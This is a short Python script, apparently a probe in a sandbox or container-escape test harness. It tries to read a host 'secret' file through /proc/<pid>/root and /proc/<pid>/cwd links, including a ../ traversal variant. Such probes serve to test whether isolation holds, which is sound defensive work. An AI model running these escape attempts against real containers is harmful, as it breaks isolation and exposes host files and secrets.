"""Enter the host by /proc/1/root."""

from __future__ import annotations

from inside import TARGET, W, attempt, show

for link in ("root", "cwd"):
    attempt(show, f"/proc/{TARGET}/{link}{W['secret']}")
    attempt(show, f"/proc/{TARGET}/{link}/../../../../../..{W['secret']}")
